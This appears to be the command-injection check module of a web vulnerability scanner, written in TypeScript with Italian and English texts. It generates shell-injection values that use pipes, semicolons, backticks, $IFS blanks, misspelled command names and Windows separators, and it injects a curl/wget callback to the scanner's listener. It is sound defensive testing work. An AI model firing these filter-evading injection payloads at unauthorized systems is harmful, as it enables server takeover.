import { pageOf } from '@rocca/tools/web/scope';
import { cweReference, scored } from '../../core/definition.ts';
import { encodedAsAsked } from '../attack/encoded-as-asked.ts';
import { newDatabaseError } from '../attack/error-texts.ts';
import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
import { mayBeProgram } from '../attack/programs.ts';
import { depthWhereStored } from '../attack/storing.ts';
import { mayBeStored } from '../attack/template-literals.ts';
import { type Answer, mayWiden, proof, repeat, Trial } from '../attack/trial.ts';
import { showsWait } from '../attack/wait.ts';
import type { AttackTools, PointCheck, SendOptions, WebDefinition, WebSighting } from '../check.ts';
import type { InjectionPoint } from '../crawl/point.ts';
import { isProgram } from '../crawl/template.ts';
import { type Evidence, filled } from '../evidence.ts';
import { bringsFile } from '../scanner/submissions.ts';

const DEFINITION: WebDefinition = {
  key: 'command-injection',
  family: 'Injection',
  name: { it: 'OS command injection', en: 'OS command injection' },
  description: {
    it: 'Il valore di un parametro diventa parte di un comando che il server esegue. Chi lo invia esegue comandi propri con i diritti dell’applicazione: è di fatto il controllo del server.',
    en: 'The value of a parameter becomes part of a command that the server runs. An attacker can run arbitrary commands with the rights of the application, which amounts to control of the server.',
  },
  solution: {
    it: 'Non avviare una shell con valori ricevuti: usare le funzioni del linguaggio, oppure avviare il programma direttamente con un elenco di argomenti. Accettare solo valori della forma attesa.',
    en: 'Do not start a shell with values from outside: use functions of the language, or start the program directly with a list of arguments. Accept only values of the expected form.',
  },
  scores: scored(['AV:N/AC:L/Au:N/C:C/I:C/A:C', 10], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', 9.8]),
  cves: [],
  cwes: ['CWE-78'],
  owasp: { y2021: 'A03:2021', y2025: 'A05:2025' },
  references: [
    cweReference(78),
    {
      id: 'OWASP OS Command Injection Defense',
      link: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    },
  ],
};

/** A blank to a shell, and none to filters. */
const IFS = `\${IFS}`;
/** The same without braces, which templates made of stored text would fail at. */
const PLAIN_IFS = '$IFS$9';
const blankAt = (trial: Pick<Trial, 'point' | 'tools'>) => (mayBeStored(trial) ? PLAIN_IFS : IFS);

const echo = ({ a, b, left, right }: Product, blank = ' ') => `echo${blank}${left}$((${a}*${b}))${right}`;

/** Ends an unquoted word, a string in single quotes and one in double quotes; what follows is a comment each time. */
const inAllQuotes = (value: string, separator: string, command: string, end = ' #') =>
  `${value}${separator}${command}${end}'${separator}${command}${end}"${separator}${command}${end}`;

/**
 * Without a separator or a blank: in a word and in double quotes the first is run, in single quotes, which end before it,
 * the second.
 */
const inAllWords = (value: string, substitution: string) => `${value}${substitution}'"${substitution}"'`;

/**
 * Ends a command. Where the value stands in a statement of SQL that writes, the sign alone would end that as well, before
 * its condition: nothing, to a shell, is an error there.
 */
const endOf = (point: InjectionPoint) => (mayWiden(point) ? ';' : '$();');

const sumOf = ({ a, b }: Product, blank = ' ') => ['expr', a, '+', b].join(blank);

const misspell = (spelled: string) => spelled.replace(/e(?:''|\\)?(cho|xpr)/g, 'eq$1').replaceAll('set /a', 'sqt /a');
const shown = (context: Evidence, spell: (product: Product) => string): OutputPayload => ({ context, spell, misspell });
/** Without `$`: the sum is all that is shown. */
const summed = (context: Evidence, spell: (product: Product) => string): OutputPayload => ({
  ...shown(context, spell),
  sum: true,
});

/** Each of them gets past filters that stop the ones before it. */
function outputPayloads(value: string, end: string, blank: string): readonly OutputPayload[] {
  return [
    shown({ it: 'una pipe della shell', en: 'a pipe of a shell' }, (product) => inAllQuotes(value, '|', echo(product))),
    shown({ it: 'un punto e virgola della shell', en: 'a semicolon of a shell' }, (product) =>
      inAllQuotes(value, end, echo(product), ';#'),
    ),
    summed(
      { it: 'una pipe senza altri segni', en: 'a pipe without other signs' },
      (product) => `${value}|${sumOf(product)}`,
    ),
    // Begins and ends with letters or digits, and holds no blank.
    summed({ it: 'una riga a sé', en: 'a line of its own' }, (product) => `${value}\n${sumOf(product, '\t')}`),
    // Ends as a name of a host does.
    shown(
      { it: 'spazi scritti in altro modo', en: 'blanks that are no blanks' },
      (product) => `${value}${end}${echo(product, blank)}.q.test`,
    ),
    shown({ it: '$( ) della shell', en: '$( ) of a shell' }, (product) => `${value}$(${echo(product, blank)}).q.test`),
    // After a digit the sum would become part of a longer number.
    summed(
      { it: 'apici inversi', en: 'backticks' },
      (product) => `${value}${/\d$/.test(value) ? '.' : ''}\`${sumOf(product, '\t')}\``,
    ),
    summed({ it: 'una riga a sé, fra apici', en: 'a line of its own, in quotes' }, (product) =>
      inAllQuotes(value, '\n', sumOf(product, '\t'), '\t#'),
    ),
    shown({ it: 'una e commerciale', en: 'one ampersand' }, (product) => inAllQuotes(value, '&', echo(product))),
    shown({ it: 'l’intero comando', en: 'the whole command' }, echo),
    // Lists of forbidden words do not know it.
    shown(
      { it: 'un nome scritto in altro modo', en: 'a name in another spelling' },
      ({ a, b, left, right }) => `${value}${end}e\\cho ${left}$((${a}*${b}))${right}`,
    ),
  ];
}

const PAYLOADS_WHERE_IT_HANGS = 4;
/** Of them on the page behind a form. */
const LATER = 3;

/** Before the sign of an address, where the command leaves it one: no brackets, no blank, no semicolon. */
const beforeSign = (value: string, command: readonly string[]): string | null => {
  const [, name, domain] = /^([\w.+-]{1,30})(@[\w.-]{3,60})$/.exec(value) ?? [];
  return name === undefined ? null : `${name}\`${command.join(PLAIN_IFS)}\`${domain}`;
};

/** Form fields for addresses check them; the others would be refused there. */
function addressPayloads(value: string): readonly OutputPayload[] {
  if (beforeSign(value, []) === null) return [];
  const spell = ({ a, b }: Product) => beforeSign(value, ['expr', String(a), '+', String(b)]) ?? '';
  return [summed({ it: 'apici inversi in un indirizzo', en: 'backticks in an address' }, spell)];
}

/** Only where answers say that something of the value was refused or understood. */
function rarePayloads(value: string, end: string, blank: string): readonly OutputPayload[] {
  return [
    shown({ it: '$( ) della shell, fra apici', en: '$( ) of a shell, in quotes' }, (product) =>
      inAllWords(value, `$(${echo(product, blank)})`),
    ),
    shown({ it: 'due pipe', en: 'two pipes' }, (product) => inAllQuotes(`${value}_no_such`, '||', echo(product))),
    shown({ it: 'due e commerciali', en: 'two ampersands' }, (product) => inAllQuotes(value, '&&', echo(product))),
    summed({ it: 'graffe', en: 'braces' }, (product) => `${value}${end}{${sumOf(product, ',')}}`),
    summed(
      { it: 'un punto e virgola senza altri segni', en: 'a semicolon without other signs' },
      (product) => `${value}${end}${sumOf(product)}`,
    ),
    summed(
      { it: 'una e commerciale senza altri segni', en: 'an ampersand without other signs' },
      (product) => `${value}&${sumOf(product)}`,
    ),
    summed(
      { it: 'due pipe senza altri segni', en: 'two pipes without other signs' },
      (product) => `${value}_no_such||${sumOf(product)}`,
    ),
    summed({ it: 'una pipe e tabulazioni', en: 'a pipe and tabs' }, (product) => `${value}|${sumOf(product, '\t')}`),
    summed(
      { it: 'un nome scritto in altro modo, dopo una riga', en: 'a name in another spelling, in a line of its own' },
      (product) => `${value}\n${sumOf(product, '\t').replace('e', "e''")}`,
    ),
  ];
}

/** Perl and Ruby run what stands in the place of a file. */
const OPENED: readonly OutputPayload[] = [
  shown(
    { it: 'un comando al posto di un file (Perl)', en: 'a command in the place of a file (Perl)' },
    (product) => `${echo(product)}|`,
  ),
  shown(
    { it: 'un comando al posto di un file (Ruby)', en: 'a command in the place of a file (Ruby)' },
    (product) => `|${echo(product)}`,
  ),
];
const OF_OTHER_LANGUAGES = /\.(?:php\d?|jspx?|do|action|aspx?|py)$/i;
const mayOpen = ({ point: { name, value, request }, isIgnored }: Trial) =>
  !isIgnored && (FILE.test(value) || /file|path|page|doc/i.test(name)) && !OF_OTHER_LANGUAGES.test(pageOf(request.url));

function windowsPayloads(value: string): readonly OutputPayload[] {
  return [
    summed(
      { it: 'una shell di Windows', en: 'a Windows shell' },
      ({ a, b }) => `${value}&set /a ${a}+${b}&rem "&set /a ${a}+${b}&rem "`,
    ),
    summed({ it: 'una pipe di Windows', en: 'a Windows pipe' }, ({ a, b }) => `${value}|set /a ${a}+${b}`),
  ];
}

const waits = (value: string, end: string, blank: string): ReadonlyArray<(seconds: number) => string> => [
  ...(beforeSign(value, []) === null ? [] : [(seconds: number) => beforeSign(value, ['sleep', String(seconds)]) ?? '']),
  // In double quotes both are read: what has been assigned is not run again.
  (seconds) => inAllWords(value, `\${q=$(sleep${IFS}${seconds})}`),
  (seconds) => inAllQuotes(value, end, `sleep ${seconds}`, ';#'),
  (seconds) => inAllQuotes(value, '|', `sleep ${seconds}`),
  (seconds) => `${value}\nsleep\t${seconds}\n`,
  // For filters that refuse separators and `$`.
  (seconds) => `${value}\`sleep\t${seconds}\``,
  (seconds) => `${value}$(sleep${blank}${seconds}).q.test`,
  (seconds) => `${value}${end}sleep${blank}${seconds};`,
  (seconds) => inAllQuotes(value, '&&', `sleep ${seconds}`),
];
const windowsWaits = (value: string): ReadonlyArray<(seconds: number) => string> => [
  (seconds) => `${value}&ping -n ${seconds + 1} 127.0.0.1&rem "&ping -n ${seconds + 1} 127.0.0.1&rem "`,
];

/** Where the server says so, or its programs are of a kind that runs there alone. */
function isWindows({ control: { exchange }, point }: Trial): boolean {
  const said = (exchange.response?.headers ?? []).filter(([name]) => /^(?:server|x-powered-by|x-aspnet)/i.test(name));
  return (
    /\b(?:iis|win32|win64|windows|asp\.net)\b/i.test(said.flat().join(' ')) ||
    /\.aspx?$/i.test(pageOf(point.request.url))
  );
}

const NAMED_AS_COMMAND =
  /cmd|command|comando|exec|esegui|run|ping|host|ip\b|addr|domain|domini|dns|lookup|server|port|file|dir|path|percorso|shell|proc|daemon|log|backup|convert|format|zip|archiv|url|target|email|user/i;

/** Pages whose work is often done by a program. */
const PAGE_OF_A_COMMAND =
  /ping|trace-?route|who-?is|lookup|diagnos|(?:^|[^a-z])cmd|export|esporta|backup|archiv|convert|compress|shell|exec|command|comand/i;

/** An address of the network. */
const HOST = /^(?:\d{1,3}(?:\.\d{1,3}){3}|localhost|(?:[a-z0-9-]{1,63}\.){1,5}[a-z]{2,18})(?::\d{1,5})?$/i;

/** Names of files and programs look like those of hosts. */
const FILE = /\.(?:html?|txt|xml|json|css|js|png|jpe?g|gif|svg|pdf|csv|docx?|zip|inc|tpl)$/i;
const namesHost = (value: string) => HOST.test(value) && !isProgram(value) && !FILE.test(value);

// In a link, a name with dots may be anything.
const isHost = ({ value, source }: InjectionPoint) =>
  namesHost(value) && (source === 'form' || /^[\d.:]+$|^localhost\b/i.test(value));

const mayBeCommand = (point: InjectionPoint) =>
  NAMED_AS_COMMAND.test(point.name) ||
  isHost(point) ||
  PAGE_OF_A_COMMAND.test(pageOf(point.request.url).split('/').at(-1) ?? '');

/** Signs that end a string change more than the value itself does: something reads them, and it is no database. */
async function readsSigns(trial: Trial): Promise<boolean> {
  const broken = await trial.broken();
  // The value that is repeated otherwise is not any more.
  const isLost = trial.reflects && !broken.text.includes(trial.point.value);
  const isRead = isLost || trial.distance(broken, trial.other) > 0;
  return isRead && newDatabaseError(broken.text, trial.control.text) === null;
}

/** Names of what is often an argument of a program. */
const NAMED_AS_OPTION =
  /unit|mode|opt(?:$|ion)|flag|level|quality|(?:^|[^a-z])size|width|height|preset|algo|method|device|iface|interface|zone|arg|charset|encoding/i;

/** Empty quotes behind the value are nothing to a shell, and a quote alone or another word breaks what is read there. */
async function readsEmptyQuotes(trial: Trial): Promise<boolean> {
  const { name, value } = trial.point;
  if (!NAMED_AS_OPTION.test(name) || !/^[\w.+-]{1,20}$/.test(value) || trial.isUsual(trial.other)) return false;
  return !trial.isUsual(await trial.broken()) && trial.isUsual(await trial.send(`${value}''""`));
}

async function heardFrom(trial: Trial): Promise<WebSighting | null> {
  const { listener } = trial.tools;
  if (!listener) return null;
  const ask = async () => {
    const token = trial.tools.token();
    const url = listener.urlFor(token);
    const answer = await trial.send(
      inAllQuotes(trial.point.value, endOf(trial.point), `curl -s ${url}||wget -qO- ${url}`, ';#'),
    );
    // An application that fetches addresses by itself is another weakness: then the request carries the rest as well.
    const heard = await listener.heard(token, trial.atLeast('medium') ? 1_500 : 300);
    return heard && !/%7c|wget|;|%3b/i.test(heard.head.split('\n', 1)[0] ?? '')
      ? { answer, url, from: heard.from }
      : null;
  };
  const first = await ask();
  if (!first) return null;
  const again = await ask();
  if (!again) return null;
  return trial.sighting(
    DEFINITION.key,
    filled(
      {
        it: 'Il server ha eseguito un comando che ha chiesto {url} al nostro listener (da {from}), e lo ha fatto di nuovo per un altro indirizzo.',
        en: 'The server ran a command that asked our listener for {url} (from {from}), and did so again for another address.',
      },
      { url: first.url, from: first.from },
    ),
    [proof(first.answer, first.url), repeat(again.answer, again.url)],
  );
}

/** The value is the program itself, or a list of it and its arguments: no shell reads signs in it. */
const AS_PROGRAM = summed({ it: 'un programma senza shell', en: 'a program without a shell' }, (product) =>
  sumOf(product),
);

async function payloadsFor(trial: Trial, named: boolean): Promise<readonly OutputPayload[]> {
  const { value } = trial.point;
  const end = endOf(trial.point);
  const blank = blankAt(trial);
  const ofShell = outputPayloads(value, end, blank).slice(0, beforeSign(value, []) === null ? undefined : -1);
  const ofProgram = mayBeProgram(trial.point, trial.control.text) ? [AS_PROGRAM] : [];
  if (trial.hangs) return [...ofShell.slice(0, 1), ...ofProgram, ...ofShell.slice(1, PAYLOADS_WHERE_IT_HANGS)];
  const usual = [
    ...(isWindows(trial) ? windowsPayloads(value) : []),
    ...addressPayloads(value),
    // In the place of the last, which is the rarest.
    ...ofShell.slice(0, 1),
    ...ofProgram,
    ...ofShell.slice(1),
    ...(mayOpen(trial) ? OPENED : []),
  ];
  const all = [...usual, ...rarePayloads(value, end, blank)];
  if (trial.atLeast('high')) return all;
  if (!trial.atLeast('default')) return usual.slice(0, named ? 4 : 1);
  if (trial.isIgnored) return named ? usual : usual.slice(0, 1 + ofProgram.length);
  if ((await readsSigns(trial)) || (await readsEmptyQuotes(trial))) return all;
  return named ? usual : usual.slice(0, 2 + ofProgram.length);
}

async function attackPoint(point: InjectionPoint, tools: AttackTools): Promise<readonly WebSighting[]> {
  const trial = await Trial.begin(point, tools, depthWhereStored(point, tools), { mayHang: true });
  if (!trial) return [];
  const named = mayBeCommand(point);
  if (!named && trial.isIgnored && !trial.atLeast('default')) return [];
  const direct = (await payloadsFor(trial, named)).map((payload) => ({ payload, at: trial }));
  // The result may stand on the page that the form leads on to.
  const landing = named && trial.atLeast('default') ? await trial.landing() : null;
  const later = landing ? outputPayloads(point.value, endOf(point), blankAt(trial)).slice(0, LATER) : [];
  for (const { payload, at } of [...direct, ...later.map((payload) => ({ payload, at: landing ?? trial }))]) {
    const seen = await showsOutput(at, payload);
    if (!seen) continue;
    const evidence = filled(
      {
        it: 'Un comando viene eseguito ({context}): “{value}” riceve la risposta “{shown}”, e altri numeri il loro risultato.',
        en: 'A command is run ({context}): “{value}” is answered with “{shown}”, and other numbers with their own result.',
      },
      { context: payload.context, value: seen.first.value, shown: seen.shown },
    );
    return [trial.sighting(DEFINITION.key, evidence, seen.messages)];
  }
  const encoded = await encodedAsAsked(point, tools);
  return encoded ? attackPoint(encoded, tools) : [];
}

export const commandInjection = {
  code: 'command_injection',
  name: { it: 'Comandi del sistema', en: 'System commands' },
  kind: 'point',
  from: 'low',
  definitions: [DEFINITION],
  measuresTime: true,
  wants: () => true,
  attack: attackPoint,
  async waitFor(point, tools) {
    const trial = await Trial.begin(point, tools, tools.depth, { mayHang: true });
    const named = mayBeCommand(point);
    // Where nothing speaks for a command, one that shows nothing is looked for where the value changes nothing either.
    if (!trial || !(named || trial.atLeast('medium') || (trial.atLeast('default') && trial.isIgnored))) return [];
    const heard = await heardFrom(trial);
    if (heard) return [heard];
    const most = trial.atLeast('default') ? 4 : 2;
    const waited =
      (await waitsForCommand(trial, { most: trial.atLeast('high') ? undefined : named ? most : 1 })) ??
      (isSentWithoutFile(trial) ? await waitsForCommand(trial, { most: 1, options: { withFile: true } }) : null);
    return waited ? [waited] : [];
  },
} as const satisfies PointCheck;

/** The form has a file and is taken without it: what is done with the file, and under which name, is not seen so. */
const isSentWithoutFile = ({ point, control: { exchange } }: Trial) =>
  bringsFile(point.request) && !bringsFile(exchange.request);

interface CommandWaits {
  /** Spellings that are tried; absent: all. */
  readonly most?: number | undefined;
  /** What stands before the command: the usual value. */
  readonly value?: string;
  readonly options?: SendOptions;
}

/** The answer waits as long as a command of ours says. */
export async function waitsForCommand(
  trial: Trial,
  { most, value = trial.point.value, options = {} }: CommandWaits = {},
): Promise<WebSighting | null> {
  const isText = mayBeStored(trial) && !mayBeCommand(trial.point) && !bringsFile(trial.point.request);
  const ofShell = waits(value, endOf(trial.point), isText ? PLAIN_IFS : IFS);
  // A text that is stored may be no command but a template, to which the braces of one mean something else.
  const mayBeText = ofShell.filter((of) => !isText || !of(1).includes('{'));
  const spellings = [...(isWindows(trial) ? windowsWaits(value) : []), ...mayBeText];
  let isRefused = false;
  const onAnswered = (answer: Answer) => {
    isRefused ||= trial.distance(answer, trial.control) > 0 && trial.distance(answer, trial.other) > 0;
  };
  for (const [at, of] of spellings.entries()) {
    // One more value where the site refused special characters.
    if (most !== undefined && at >= most && !(at === most && most > 1 && isRefused)) break;
    const seen = await showsWait(trial, { of, options, onAnswered });
    if (!seen) continue;
    const evidence = filled(
      {
        it: 'Un nostro comando viene eseguito: la risposta attende quanto il comando dice, e non altrimenti: {times}.',
        en: 'A command of ours is run: the answer waits as long as it says, and not otherwise: {times}.',
      },
      { times: seen.evidence },
    );
    return trial.sighting(DEFINITION.key, evidence, seen.messages);
  }
  return null;
}
